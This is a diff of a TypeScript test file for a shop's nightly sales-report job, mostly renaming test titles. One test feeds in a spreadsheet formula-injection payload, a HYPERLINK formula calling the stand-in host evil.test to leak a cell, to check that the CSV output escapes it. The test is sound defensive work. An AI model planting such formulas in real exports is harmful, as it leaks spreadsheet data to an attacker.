@@ -121,7 +121,7 @@ test('a shop without orders has no reports', async () => {
   expect(s.reports.names()).toEqual([]);
 });
 
-test('nights that were skipped are made up for, days with nothing among them', async () => {
+test('skipped nights are made up for, including days without orders', async () => {
   const { s } = await twoDays();
   await s.report();
   s.clock.set('2026-03-03T23:59:59.999Z');
@@ -138,7 +138,7 @@ test('nights that were skipped are made up for, days with nothing among them', a
   expect((await s.json('2026-03-03')).totals).toMatchObject([{ placed: 1, confirmed: 1 }]);
 });
 
-test('the same night twice reports nothing anew', async () => {
+test('the same night twice reports nothing again', async () => {
   const { s } = await twoDays();
   await s.report();
   const before = await s.stored();
@@ -146,7 +146,7 @@ test('the same night twice reports nothing anew', async () => {
   expect(await s.stored()).toEqual(before);
 });
 
-test('two at once report every day once, and say the same', async () => {
+test('two runs at once report every day once, with the same content', async () => {
   const { s } = await twoDays();
   s.clock.set('2026-03-06T02:00:00.000Z');
   await Promise.all([s.report(), s.report(), s.report()]);
@@ -168,7 +168,7 @@ const dyingAt = (format: 'csv' | 'json'): Wrap => {
   };
 };
 
-test.each(['csv', 'json'] as const)('a run that dies before the %s is made up for by the next', async (format) => {
+test.each(['csv', 'json'] as const)('the next run makes up for one that dies before the %s', async (format) => {
   const { s } = await twoDays(dyingAt(format));
   await expect(s.report()).rejects.toThrow('2026-03-01');
   expect(s.reports.names()).toEqual(format === 'csv' ? [] : ['sales/2026-03-01.csv']);
@@ -176,7 +176,7 @@ test.each(['csv', 'json'] as const)('a run that dies before the %s is made up fo
   expect(s.reports.names()).toEqual(['sales/2026-03-01.csv', 'sales/2026-03-01.json']);
 });
 
-test('a CSV that says something else is neither kept beside our JSON nor written over', async () => {
+test('a CSV with other content is neither accepted next to our JSON nor overwritten', async () => {
   const { s } = await twoDays();
   await s.reports.create('2026-03-01', 'csv', Buffer.from('other'));
   await expect(s.report()).rejects.toThrow('2026-03-01');
@@ -191,7 +191,7 @@ test('a CSV that says something else is neither kept beside our JSON nor written
   expect(await s.report()).toEqual({ reported: 1, left: 0 });
 });
 
-test('a day that fails keeps no other day from its report, and is named at the end', async () => {
+test('a day that fails does not stop the reports of other days, and is named at the end', async () => {
   let broken = new Set(['2026-03-02', '2026-03-04']);
   const { s } = await twoDays({
     orders: (orders) => ({
@@ -261,7 +261,7 @@ test('days that fail by themselves do not end the run, however many they are', a
   expect([...(await s.reports.listDays())]).toEqual(['2026-03-01']);
 });
 
-test('an order whose amounts make no sum fails its day loudly', async () => {
+test('an order whose amounts cannot be added up fails its day loudly', async () => {
   const { s } = await twoDays();
   for (const { id } of s.orders.stored()) {
     const stored = await s.orders.get(id);
@@ -274,7 +274,7 @@ test('an order whose amounts make no sum fails its day loudly', async () => {
   expect(JSON.stringify(s.log.entries)).toContain('not a safe integer');
 });
 
-test('a long run begins no further day after some minutes, says how many are left, and the next goes on', async () => {
+test('a long run starts no further day after some minutes and says how many are left, and the next run goes on', async () => {
   const { s } = await twoDays({
     reports: (reports) => ({
       ...reports,
@@ -310,7 +310,7 @@ test('currencies have totals and rows of their own', async () => {
   ]);
 });
 
-test('a name that a spreadsheet would calculate is told as it is in JSON, and as text in CSV', async () => {
+test('a name that a spreadsheet would calculate is unchanged in JSON, and text in CSV', async () => {
   const s = reportedShop();
   const name = '=HYPERLINK("http://evil.test?"&A1)';
   const details = { name, price: { amount: 100, currency: 'EUR' }, active: true };
@@ -323,7 +323,7 @@ test('a name that a spreadsheet would calculate is told as it is in JSON, and as
   expect(await s.text('2026-03-01', 'csv')).toContain(`,mug,"'=HYPERLINK(""http://evil.test?""&A1)",1,`);
 });
 
-test('a day of many events shows in the log how far it is, and how long it took', async () => {
+test('a day with many events logs its progress and how long it took', async () => {
   const { s } = await twoDays({
     orders: (orders) => ({
       ...orders,
